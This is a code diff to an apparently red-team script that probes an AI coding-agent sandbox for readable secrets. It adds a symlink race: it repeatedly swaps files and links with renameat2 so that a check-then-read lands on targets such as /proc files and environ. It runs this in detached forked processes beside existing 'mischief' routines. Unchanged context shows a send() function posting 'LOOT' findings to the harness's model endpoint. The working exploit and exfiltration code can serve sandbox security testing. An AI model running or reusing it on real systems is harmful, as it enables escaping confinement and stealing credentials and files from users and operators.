@@ -6,6 +6,7 @@ canaries in everything that can be read from here, and sends what it finds to th
 """
 
 import base64
+import ctypes
 import itertools
 import json
 import os
@@ -203,6 +204,47 @@ MISCHIEF += [lenders_of_git, index_of_git, database, beside_the_database, delete
 MISCHIEF += [folder_of_the_database, names_of_files, refs_of_git, git_itself]
 
 
+def exchanged():
+    """Files that are links every other moment, and a folder: what they are now, beside what they will be."""
+    own, pairs = random.Random(~seed), []
+    for number in range(own.choice([2, 4, 8])):
+        path, beside = os.path.join(clone, f"hot-{number}.txt"), os.path.join(clone, f".git/hot-{number}")
+        target = own.choice(FILES)
+        # Who looks first and reads then takes as many bytes as were there at the look.
+        length = own.choice([300, 600, 900]) if target.startswith("/proc") else 39
+        pairs.append((path, beside, target, "w" * length))
+    pairs.append((os.path.join(clone, "hot"), os.path.join(clone, ".git/hot"), own.choice(FOLDERS), None))
+    return pairs
+
+
+def lay_out(path, beside, target, content):
+    for old in [path, beside]:
+        if os.path.islink(old) or os.path.isfile(old):
+            os.unlink(old)
+    if content is None:
+        os.makedirs(path if not os.path.isdir(beside) else beside, exist_ok=True)
+        plain(os.path.join(path if os.path.isdir(path) else beside, "environ"))
+    else:
+        with open(path, "w") as file:
+            file.write(content)
+    os.symlink(target, beside if not os.path.isdir(beside) else path)
+
+
+def exchange_for_ever():
+    """Nothing but one call of the kernel each time, so that hardly a look and a read fit in between."""
+    rename, pairs = ctypes.CDLL(None).renameat2, exchanged()
+    names = [(path.encode(), beside.encode()) for path, beside, _, _ in pairs]
+    while time.monotonic() < until:
+        for pair in pairs:
+            try:
+                lay_out(*pair)
+            except OSError:
+                pass
+        for _ in range(5000):
+            for path, beside in names:
+                rename(-100, path, -100, beside, 2)
+
+
 def send(found):
     base = re.search(r'"baseURL":"([^"]+)"', os.environ["OPENCODE_CONFIG_CONTENT"]).group(1)
     body = {"model": "m1", "messages": [{"role": "user", "content": "LOOT " + found}]}
@@ -303,6 +345,11 @@ if os.fork() == 0:
     null = os.open("/dev/null", os.O_RDWR)
     for number in range(3):
         os.dup2(null, number)
-    look() if os.fork() == 0 else make_mischief()
+    work = make_mischief
+    for other in [look, exchange_for_ever]:
+        if os.fork() == 0:
+            work = other
+            break
+    work()
     os._exit(0)
 print("under way")
